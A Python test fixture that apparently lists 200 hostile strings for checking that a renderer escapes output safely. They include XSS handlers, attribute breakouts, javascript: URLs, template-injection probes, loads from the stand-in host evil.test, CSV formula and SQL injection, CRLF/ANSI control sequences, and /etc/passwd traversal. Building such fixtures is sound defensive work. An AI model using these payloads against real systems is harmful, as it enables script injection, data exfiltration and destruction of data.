"""Two hundred texts that must do nothing wherever they are shown."""

HIT = "window.hit=1"
IMAGE = f"<img src=x onerror={HIT}>"
EVIL = "http://evil.test/"

HANDLERS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT\t>",
    f"<script/x>{HIT}</script",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    IMAGE,
    f"<img src=x onerror={HIT}//",
    f'<IMG SRC=x OnErRoR="{HIT}">',
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x:x onerror\n=\n{HIT}>",
    f"<image src=x onerror={HIT}>",
    *(
        f"<{start}={HIT}>"
        for start in (
            "svg onload",
            "svg/onload",
            "body onload",
            "body onpageshow",
            "frameset onload",
            "iframe onload",
            "object data=x onerror",
            "embed src=x onerror",
            "audio src=x onerror",
            "video><source onerror",
            "details open ontoggle",
            "input autofocus onfocus",
            "select autofocus onfocus",
            "textarea autofocus onfocus",
            "button autofocus onfocus",
            "a href=# tabindex=1 autofocus onfocus",
            "div contenteditable autofocus onfocus",
            "x tabindex=1 autofocus onfocusin",
            "marquee onstart",
            "link rel=stylesheet href=x onerror",
            "style onload",
            "script src=x onerror",
            "track default src=x onerror",
            "p onpointerenter",
            "b style=animation:x onanimationstart",
            "i style=transition:1s ontransitionrun",
            "dialog open onbeforetoggle",
            "x oncontentvisibilityautostatechange",
        )
    ),
]

ENDS = [
    f"{end}{IMAGE}"
    for end in (
        '">', "'>", "`>", "\\\">", "</pre>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
        "</option></select>", "</template>", "</svg>", "</math>", "</td></tr></table>", "</a>", "</main></body>",
        "<!--><!--", "--!>", "-->", "]]>", "*/", "?>", "%>", "</xmp>", "</iframe>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    )
]  # fmt: skip

ATTRIBUTES = [
    f'" autofocus onfocus={HIT} x="',
    f"' autofocus onfocus={HIT} x='",
    f'" onmouseover="{HIT}',
    f"' onmouseover='{HIT}",
    f"` onmouseover=`{HIT}",
    f'"\tonfocus\t=\t{HIT}\tautofocus\t',
    f'"\nonfocus={HIT}\nautofocus\n',
    f'"/onfocus={HIT}/autofocus/',
    f'"onfocus={HIT} autofocus',
    f"&quot; onfocus={HIT} autofocus x=&quot;",
    f"\u201d onfocus={HIT} autofocus x=\u201d",
    f'" style="animation:x" onanimationend="{HIT}',
    '" hidden data-live id="live',
    '" formaction="http://evil.test/" type="submit',
    '" srcdoc="<script>parent.hit=1</script>',
    '"></form><form action=http://evil.test/><button>',
    "=\"'`<>&;/\\",
]

ADDRESSES = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"java\nscript:{HIT}",
    f"\x01javascript:{HIT}",
    f" javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"&#106;avascript:{HIT}",
    f"javascript://%0a{HIT}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>parent.{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>",
    "//evil.test/",
    "\\\\evil.test\\",
    "/\t/evil.test/",
    "../../../../etc/passwd",
    "..%2f..%2f%00",
    f"<a href=javascript:{HIT} id=x>here</a>",
    f"[here](javascript:{HIT})",
]

TEMPLATES = [
    f"{{{{ 7*7 }}}}{{% raw %}}${{{HIT}}}",
    "{{ config }}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    "{% include '/etc/passwd' %}{% endraw %}",
    f"${{{HIT}}}#{{{HIT}}}",
    f"<%= {HIT} %>",
    f"[[${{{HIT}}}]]",
    f"<x ng-app ng-init={HIT}>",
    f"<x v-html=\"'{HIT}'\" x-init={HIT} @click={HIT}>",
    f"<x hx-on::load={HIT} hx-get=/ hx-trigger=load>",
    f"<template><script>{HIT}</script></template>",
    f"<template shadowrootmode=open><script>{HIT}</script></template>",
    f"<x is=y><slot onslotchange={HIT}>",
    "%(name)s %s %n {0} {0.__class__}",
]

DRAWINGS = [
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:,{HIT} />",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={HIT}>",
    f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text>x</text></a>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>",
    f"<svg></p><style><a id='</style>{IMAGE}'>",
    f"<math><mtext><table><mglyph><style>{IMAGE}",
    f"<math href=javascript:{HIT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x",
    f"<math><annotation-xml encoding=text/html>{IMAGE}",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{IMAGE}'>",
    f"<table><td background=javascript:{HIT}><svg onload={HIT}>",
]

POLICIES = [
    f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    f"<iframe src=javascript:{HIT}>",
    f"<object data=javascript:{HIT}>",
    f"<embed src=javascript:{HIT}>",
    f"<script nonce=x>{HIT}</script>",
    f"<script type=module>{HIT}</script>",
    '<script type=importmap>{"imports":{"x":"http://evil.test/x.js"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["http://evil.test/"]}]}</script>',
    "<script src=/static/app.js></script>",
    f"<script src={EVIL}x.js></script>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<link rel=stylesheet href={EVIL}x.css>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=manifest href={EVIL}x.json>",
    f"<style>@import '{EVIL}x.css';</style>",
    f"<style>*{{background:url({EVIL})}}input[value^=a]{{color:red}}</style>",
    f"<form action={EVIL}><button>x",
    f"<img src={EVIL}x.png>",
    f"<img srcset='{EVIL}x.png 2x'>",
    f"<video poster={EVIL}x.png><input type=image src={EVIL}x.png>",
    f"<x style='background:url({EVIL})'>",
    f"<a ping={EVIL} href=/ download>x</a>",
]

ENCODED = [
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{HIT}",
    f"&ltscript&gt{HIT}",
    f"&amp;lt;script&amp;gt;{HIT}",
    f"%3Cscript%3E{HIT}%3C%2Fscript%3E",
    f"%253Cscript%253E{HIT}",
    f"\\u003cscript\\u003e{HIT}",
    f"\\x3cscript\\x3e{HIT}",
    f"+ADw-script+AD4-{HIT}",
    f"\uff1cscript\uff1e{HIT}",
    f"\u2039script\u203a{HIT}",
    f"<\u017fcript>{HIT}</\u017fcript>",
    f"<script\u0000>{HIT}</script>",
    f"<\u0000script>{HIT}</script>",
]

STEERING = [
    "\u202etxt.exe\u2066\u200f",
    "\u202d\u2067right to left\u2069",
    "\u05d0\u05d1\u05d2 <b>\u05d3</b>",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "e" + "\u0301" * 60,
    "\u2028window.hit=1\u2029",
    "\x85\x9b31mred",
    "line\r\nSet-Cookie: a=b\x00\x1b[31mred",
    "\x1b]8;;http://evil.test/\x07here\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x1b]0;title\x07\x08\x08\x08",
    "x\n\nevent: message\ndata: 99\n\nretry: 1\n\n",
    "x\r\rdata: 99\r\r:",
    "\n2026-01-01 00:00:00.000 CRITICAL forged",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/","x")',
    "@SUM(1)\t-1+1\t+1",
    "\U000e0041\U000e0042\uffff\U0010ffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u1f600",
]

WORDS = [
    "null",
    "None",
    "__proto__",
    "' OR 1=1 --",
    "'; DROP TABLE jobs; --",
    "\\'; alert(1) //",
    "<" * 300,
    "W" * 2_000,
    "<b>" * 120,
    "<!-- ",
    "<![CDATA[",
]

HOSTILE = [
    *HANDLERS, *ENDS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *DRAWINGS, *POLICIES, *ENCODED, *STEERING, *WORDS,
]  # fmt: skip
assert len(set(HOSTILE)) == len(HOSTILE) == 200
